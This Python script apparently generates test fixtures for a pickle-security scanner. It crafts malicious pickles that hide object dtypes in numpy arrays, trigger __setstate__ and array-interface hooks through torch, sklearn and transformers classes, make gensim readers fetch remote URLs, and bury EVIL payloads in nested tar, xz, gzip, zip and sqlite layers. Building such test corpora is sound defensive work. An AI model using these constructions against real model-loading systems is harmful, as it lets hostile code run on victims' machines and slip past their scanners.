"""
More files by somebody who has read our source, as {name: base64}: what is vouched for is trusted to mean what it says, here it
does not. numpy believes dtypes, objects answer for attributes out of their items, dicts are filled after they were looked at,
classes open files when somebody counts them, formats lie in formats. attacks.test.ts says what must be said of each. Made here;
that numpy 1.26 and 2.4, Python 3.11 and 3.13 do as it is written was tried with harmless ones.
"""
import base64
import gzip
import io
import json
import lzma
import os
import sqlite3
import struct
import sys
import tarfile
import tempfile
import zipfile
import zlib

from attacks import (DATE, EVIL, EVIL2, NONE, TRUE, built, call, evaluates, items, keyed, listed, model, name, namespace, new, number,
                     saved, text, zipped)

files = {}
FALSE = b"\x89"


def put(value, index):
    return value + b"q" + bytes([index])


def got(index):
    return b"h" + bytes([index])


def then(*values):
    """Each is made, all but the last are dropped."""
    return b"0".join(values)


# What numpy believes of its bytes
def dtype(spec, state=None, make=call):
    made = make(name("numpy", "dtype"), text(spec), FALSE, TRUE)
    return made if state is None else built(made, state)


def described(fields=NONE, names=NONE, part=NONE, size=-1, flags=0, order="|"):
    return items(number(3), text(order), part, names, fields, number(size), number(size), number(flags))


def fielded(**fields):
    return b"}(" + b"".join(text(key) + items(inner, number(at)) for key, (inner, at) in fields.items()) + b"u"


def array(of, raw=b"C\x08AAAAAAAA", core="numpy.core.multiarray"):
    made = call(name(core, "_reconstruct"), name("numpy", "ndarray"), items(number(0)), b"C\x01b")
    return built(made, items(number(1), items(number(1)), of, FALSE, raw))


objects = dtype("O8", described(flags=63))
integers = dtype("<i8", described(order="<"))
names = items(text("a"), text("b"))
dtypes = {
    "that hides an object": dtype("O8", described()),
    "that hides that it counts": dtype("O8", described(flags=62)),
    "that hides that it pickles": dtype("O8", described(flags=61)),
    "that hides a field": dtype("V8", described(fielded(a=(objects, 0)), items(text("a")), size=8)),
    "that hides a part": dtype("V8", described(part=items(objects, items(number(1))), size=8)),
    "that hides a field in a field": dtype("V8", described(fielded(a=(dtype("V8", described(fielded(a=(objects, 0)), items(text("a")),
        size=8, flags=27)), 0)), items(text("a")), size=8)),
    "of an object below a number": dtype("V8", described(fielded(a=(objects, 0), b=(integers, 0)), names, size=8, flags=27)),
    "of an object beside a number": dtype("V12", described(fielded(a=(objects, 0), b=(integers, 4)), names, size=12, flags=27)),
    "of objects that overlap": dtype("V12", described(fielded(a=(objects, 0), b=(objects, 4)), names, size=12, flags=27)),
    "with a field far away": dtype("V8", described(fielded(a=(integers, 4096)), items(text("a")), size=8)),
    "with a field before it": dtype("V8", described(fielded(a=(integers, -8)), items(text("a")), size=8)),
    "with a part that is too large": dtype("V8", described(part=items(integers, items(number(1000))), size=8)),
    "with a part of a negative side": dtype("V8", described(part=items(integers, items(number(-1), number(-1), number(1000))), size=8)),
    "of numbers with fields": dtype("<i8", described(fielded(a=(objects, 0)), items(text("a")), flags=27)),
    "of text with fields": dtype("S8", described(fielded(a=(objects, 0)), items(text("a")), size=8, flags=27)),
    "of bytes that counts": dtype("V8", described(size=8, flags=1)),
    "of bytes that is a pointer": dtype("V8", described(size=8, flags=4)),
    "of numbers that counts": dtype("<i8", described(flags=63)),
    "of a record": built(call(name("numpy", "dtype"), name("numpy", "record"), FALSE, TRUE), described(fielded(a=(objects, 0)),
        items(text("a")), size=8)),
    "of an old version": dtype("V8", items(number(1), text("|"), NONE, items(text("a")), fielded(a=(integers, 512)), number(8), number(1))),
    "of no version": dtype("V8", items(text("|"), NONE, fielded(a=(integers, 512)), number(8), number(1))),
    "made by NEWOBJ": dtype("O8", described(), new),
    "made by OBJ": built(b"(" + name("numpy", "dtype") + text("O8") + FALSE + TRUE + b"o", described()),
    "made by INST": built(b"(" + text("O8") + FALSE + TRUE + b"inumpy\ndtype\n", described()),
    "made by copyreg": built(call(name("copyreg", "__newobj__"), name("numpy", "dtype"), text("O8"), FALSE, TRUE), described()),
    "made by a class": built(call(name("builtins", "object")) + b"0" + call(name("numpy", "dtype"), name("builtins", "object"), FALSE, TRUE), described()),
    "of its own class": built(call(name("numpy.dtypes", "ObjectDType")), described()),
    "whose state is a call": built(dtype("V8"), call(name("builtins", "tuple"), listed(number(3)))),
    "whose size is a call": dtype("V8", items(number(3), text("|"), NONE, NONE, NONE, call(name("builtins", "int"), text("99")), number(1), number(0))),
    "that changes": then(put(dtype("V8"), 1), array(got(1)), built(got(1), described(fielded(a=(objects, 0)), items(text("a")), size=8, flags=27))),
    "that changes again": then(put(dtype("V8", described(size=8)), 1), array(got(1)), built(got(1), described(fielded(a=(objects, 0)),
        items(text("a")), size=8, flags=27))),
    "that changes within": then(put(dtype("V8", described(size=8)), 1), built(got(1), described(fielded(a=(objects, 0)), items(text("a")), size=8))),
}
for what, of in dtypes.items():
    files[f"dtype {what}.pkl"] = saved(array(of))
files["dtype of a scalar.pkl"] = saved(call(name("numpy.core.multiarray", "scalar"), dtypes["that hides an object"], b"C\x08AAAAAAAA"))
files["dtype of a buffer.pkl"] = saved(call(name("numpy._core.numeric", "_frombuffer"), b"C\x08AAAAAAAA", dtypes["that hides a field"], items(number(1)), text("C")))
files["dtype of a constructor.pkl"] = saved(call(name("numpy", "ndarray"), items(number(1)), dtypes["that hides a field"], b"C\x08AAAAAAAA"))
files["dtype in Python 2.pkl"] = saved(array(dtypes["that hides an object"], b"U\x08AAAAAAAA"), 2)
files["dtype behind a call.pkl"] = saved(array(built(call(name("torch._tensor", "_rebuild_from_type_v2"), name("numpy", "dtype"),
    name("numpy.dtypes", "ObjectDType"), items(text("O8")), described()), described())))
files["dtype by an applied call.pkl"] = saved(call(name("torch._tensor", "_rebuild_from_type_v2"), name("numpy", "dtype"),
    name("numpy.dtypes", "ObjectDType"), items(text("O8")), described()))
files["dtype after many values.pkl"] = saved(then(b"](" + b"K\1" * 60_000 + b"e", put(dtype("O8"), 1), b"]" + got(1) + b"a", array(built(got(1), described()))))

files["nodes of a tree far away.pkl"] = saved(built(new(name("scipy.spatial._ckdtree", "cKDTree")), items(array(dtype("u1"), b"C\x08AAAAAAAA"))))

# Attributes that nobody sees: what answers for them, and dicts that are filled later
memory = keyed(shape=items(number(1)), typestr=text("<i8"), data=items(number(4096), TRUE), version=number(3))
bunch = call(name("sklearn.utils._bunch", "Bunch"))
layer = name("torch.nn.modules.linear", "Identity")
config = name("transformers.configuration_utils", "PretrainedConfig")
ordered = call(name("collections", "OrderedDict"))
simple = name("types", "SimpleNamespace")
hook = text("__setstate__") + model + b"s"
answers = {
    "namespace of a mapping": built(call(simple, keyed(__setstate__=model)), evaluates),
    "namespace of memory": call(name("numpy", "float64"), call(simple, keyed(__array_interface__=memory))),
    "items of a bunch": call(name("numpy", "float64"), bunch + text("__array_interface__") + memory + b"s"),
    "structure of a bunch": call(name("numpy", "asarray"), bunch + text("__array_struct__") + memory + b"s"),
    "buffers of a layer": call(name("numpy", "float64"), built(new(layer), keyed(_buffers=keyed(__array_interface__=memory)))),
    "parameters of a layer": call(name("numpy", "str_"), built(new(layer), keyed(_parameters=keyed(__array_interface__=memory)))),
    "modules of a layer": call(name("numpy", "dtype"), built(new(layer), keyed(_modules=keyed(__array_interface__=memory)))),
    "ordered buffers of a layer": built(new(layer), keyed(_buffers=ordered + text("__array_interface__") + memory + b"s")),
    "computed buffers of a layer": built(new(layer), keyed(_buffers=ordered + call(name("builtins", "str"), b"C\x13__array_interface__", text("ascii")) + memory + b"s")),
    "map of a configuration": built(built(new(config), keyed(attribute_map=keyed(__setstate__=text("x")), x=model)), evaluates),
    "memory of a configuration": call(name("numpy", "float64"), built(new(config), keyed(attribute_map=keyed(__array_interface__=text("x")), x=memory))),
    "ordered map of a configuration": built(built(new(config), keyed(attribute_map=ordered + text("__setstate__") + text("x") + b"s", x=model)), evaluates),
    "state of a parameter": call(name("torch._utils", "_rebuild_parameter_with_state"), NONE, TRUE, b"}", keyed(__array_interface__=memory)),
    "class of a parameter": call(name("torch._utils", "_rebuild_parameter_with_state"), NONE, TRUE, b"}", keyed(__class__=model)),
    "state of another type": call(name("torch._tensor", "_rebuild_from_type_v2"), name("torch", "Size"), name("torch", "Tensor"), b")", keyed(__setstate__=model)),
    "slots of another type": call(name("torch._tensor", "_rebuild_from_type_v2"), name("torch", "Size"), name("torch", "Tensor"), b")", items(NONE, keyed(__class__=model))),
    "dict that another type keeps": then(put(call(name("torch._tensor", "_rebuild_from_type"), name("torch", "Size"), name("torch", "Tensor"), b")", put(b"}", 1)), 2),
        got(1) + hook, built(got(2), evaluates)),
    "dict in a slot": then(put(b"}", 1), put(built(new(namespace), items(NONE, b"}" + text("__dict__") + got(1) + b"s")), 2), got(1) + hook, built(got(2), evaluates)),
    "dict in a slot of an error": then(put(b"}", 1), put(built(call(name("builtins", "ValueError")), items(NONE, b"}" + text("__dict__") + got(1) + b"s")), 2),
        got(1) + hook, built(got(2), evaluates)),
    "dict of a partial": then(put(b"}", 1), put(built(call(name("functools", "partial"), name("builtins", "int")),
        items(name("builtins", "int"), b")", b"}", got(1))), 2), got(1) + hook, built(got(2), items(name("builtins", "int"), b")", b"}", NONE))),
}
for what, value in answers.items():
    files[f"{what}.pkl"] = saved(value)

# Classes that open files as soon as somebody asks them for their items
readers = {
    "shard": built(new(name("gensim.similarities.docsim", "Shard")), keyed(cls=name("gensim.utils", "SaveLoad"), dirname=text("http://h"), fname=text("x"))),
    "sentences": built(new(name("gensim.models.word2vec", "LineSentence")), keyed(source=text("http://h/x"), limit=NONE, max_sentence_length=number(9))),
    "corpus": built(new(name("gensim.corpora.textcorpus", "TextCorpus")), keyed(input=text("http://h/x"), metadata=FALSE)),
    "lazy mapping": built(new(name("transformers.models.auto.configuration_auto", "_LazyConfigMapping")), keyed(_mapping=keyed(a=text("x")), _modules=b"}")),
    "filtered view": built(new(name("networkx.classes.coreviews", "FilterAtlas")), keyed(_atlas=keyed(a=NONE), NODE_OK=model)),
}
askers = {
    "product": lambda value: call(name("itertools", "product"), value),
    "length": lambda value: call(name("builtins", "len"), value),
    "index": lambda value: call(name("pandas.core.indexes.base", "_new_Index"), name("pandas.core.indexes.base", "Index"), keyed(data=value)),
    "text": lambda value: call(name("builtins", "str"), value),
}
for what, reader in readers.items():
    for how, asker in askers.items():
        files[f"{how} of a {what}.pkl"] = saved(asker(reader))
# Names that are vouched for, with a state that whoever asks would get
stateful = built(new(name("sklearn.pipeline", "Pipeline")), keyed(steps=listed(evaluates)))
for module, function in (("itertools", "permutations"), ("itertools", "cycle"), ("builtins", "enumerate"), ("builtins", "reversed"), ("builtins", "bool"),
                         ("builtins", "abs"), ("numpy", "float64"), ("numpy", "str_"), ("numpy", "ndarray"), ("time", "struct_time"), ("posixpath", "join"),
                         ("ipaddress", "IPv4Address"), ("torch", "Size"), ("builtins", "ExceptionGroup")):
    files[f"{function} of a pipeline.pkl"] = saved(call(name(module, function), stateful))
    files[f"{function} of a list of pipelines.pkl"] = saved(call(name(module, function), listed(stateful)))

# Formats in formats in formats
inside = zipped(("a/data.pkl", EVIL2), ("a/version", b"3\n"))
stream = io.BytesIO()
with tarfile.open(fileobj=stream, mode="w") as archive:
    member = tarfile.TarInfo("model.bin")
    member.size = len(inside)
    archive.addfile(member, io.BytesIO(inside))
packed = lzma.compress(stream.getvalue())
files["torch in tar in xz.bin"] = packed
files["torch in tar in xz in gzip.bin"] = gzip.compress(packed, mtime=0)
files["torch in tar in xz in gzip in zip.bin"] = zipped(("deep/er", gzip.compress(packed, mtime=0)))
files["all of it in a pickle.pkl"] = saved(call(name("torch.storage", "_load_from_bytes"), b"B" + struct.pack("<I", len(inside)) + inside))
folder = tempfile.mkdtemp()
with sqlite3.connect(os.path.join(folder, "x.db")) as database:
    database.execute("create table cache (key text, value blob)")
    database.execute("insert into cache values ('a', ?)", (gzip.compress(packed, mtime=0),))
database.close()
with open(os.path.join(folder, "x.db"), "rb") as file:
    files["torch in tar in xz in gzip in a column.db"] = file.read()
files["frames in gzip.bin"] = gzip.compress(struct.pack("!i", len(EVIL)) + EVIL, mtime=0)
files["frames that begin with an empty pickle.bin"] = struct.pack("!i", 4) + b"\x80\x04N." + struct.pack("!i", len(EVIL)) + EVIL
files["frame of eight bytes of length.bin"] = struct.pack("!iQ", -1, len(EVIL)) + EVIL
files["letters in a message.json"] = json.dumps({"body": base64.b64encode(zlib.compress(EVIL)).decode()}).encode()

if __name__ == "__main__":
    json.dump({name: base64.b64encode(data).decode() for name, data in files.items()}, sys.stdout)
